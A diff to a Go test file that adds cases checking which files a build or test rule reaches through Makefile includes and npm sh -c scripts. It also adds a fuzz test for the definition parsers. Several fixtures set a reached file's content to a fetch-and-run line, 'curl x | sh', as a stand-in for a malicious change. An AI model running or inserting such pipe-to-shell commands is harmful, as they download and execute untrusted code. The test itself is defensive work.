@@ -228,6 +228,10 @@ func TestDefinitionsOfMakeIncludes(t *testing.T) {
 			files: map[string]string{"Makefile": "MK := build/rules.mk\ninclude $(MK)\ntest:\n\tgo test\n", "build/rules.mk": "X = 1\n"},
 			rule:  "make test", reach: []string{"build/rules.mk#"},
 			change: "build/rules.mk", content: "test:\n\tcurl x | sh\n"},
+		{name: "include through a variable set by +=",
+			files: map[string]string{"Makefile": "MK := a.mk\nMK += b.mk\ninclude $(MK)\ntest:\n\tgo test\n", "a.mk": "X = 1\n", "b.mk": "Y = 1\n"},
+			rule:  "make test", reach: []string{"a.mk#", "b.mk#"},
+			change: "a.mk", content: "test:\n\tcurl x | sh\n"},
 		{name: "$(MAKE) -C dir in a recipe",
 			files: map[string]string{"Makefile": "test:\n\t$(MAKE) -C native test\n", "native/Makefile": "test:\n\tcc -o t t.c\n"},
 			rule:  "make test", reach: []string{"native/Makefile#"},
@@ -344,6 +348,10 @@ func TestDefinitionsFollowNamedScripts(t *testing.T) {
 			files: map[string]string{"composer.json": `{"scripts": {"gen": "@php bin/gen.php"}}`, "bin/gen.php": "<?php echo 1;\n"},
 			rule:  "composer gen", reach: []string{"bin/gen.php#"},
 			change: "bin/gen.php", content: "<?php system('curl x');\n"},
+		{name: "a script in sh -c STRING",
+			files: map[string]string{"package.json": `{"scripts": {"test": "sh -ec 'cd web && ./build.sh'"}}`, "web/build.sh": "go test\n"},
+			rule:  "npm test", reach: []string{"web/build.sh#"},
+			change: "web/build.sh", content: "curl x | sh\n"},
 		{name: "a script named absent, added later",
 			files: map[string]string{"package.json": `{"scripts": {"test": "sh scripts/gen.sh; jest"}}`},
 			rule:  "npm test", reach: []string{"scripts/gen.sh#(absent)"},
@@ -391,4 +399,34 @@ func TestDefinitionsNotFollowedAreLabelled(t *testing.T) {
 			t.Errorf("%s after a build or an install: %+v", line, v)
 		}
 	}
+}
+
+// The readers of definition texts take any text: no panic, bounded output.
+func FuzzDefinitionTexts(f *testing.F) {
+	for _, seed := range []string{
+		"npm run test --workspaces && ./scripts/x.sh",
+		"cd sub && $(MAKE) -C ../x test; source ./env.sh",
+		"MK := a.mk\nMK += $(MK) $(MK)\ninclude $(MK) $(wildcard *.mk)\ntest:\n\t@$(PYTHON) tools/y.py\n",
+		"import? 'x.just'\nmod foo 'bar'\ntest:\n    ./t.sh {{arg}}\n",
+		"version: '3'\nincludes:\n  a: ./a\ntasks:\n  t:\n    dir: x\n    cmds:\n      - bash s.sh\n      - cmd: ./x\n",
+		"@php bin/x.php\n@composer run-script y\nFoo\\Bar::baz",
+		"packages/{a,{b,c}}/**", "sh -c 'bash -c \"./x.sh\"'", "$(", "{{", "((",
+	} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		for _, read := range []func(string, string) ([]command, []string){shellCommands, makeCommands, justCommands, taskCommands, composerCommands} {
+			cmds, _ := read(text, "/p")
+			if len(cmds) > len(text)+1 {
+				t.Fatalf("%d commands from %d bytes", len(cmds), len(text))
+			}
+		}
+		_ = parseJustfile(text)
+		if len(expandBraces(text)) > 64 {
+			t.Fatalf("expandBraces(%q) gives more than 64 patterns", text)
+		}
+		if got := makeExpand(text, map[string]string{"X": "$(X)$(X)", "Y": text}); len(got) > 2*maxExpanded+2*len(text)+64 {
+			t.Fatalf("makeExpand grew %d bytes to %d", len(text), len(got))
+		}
+	})
 }
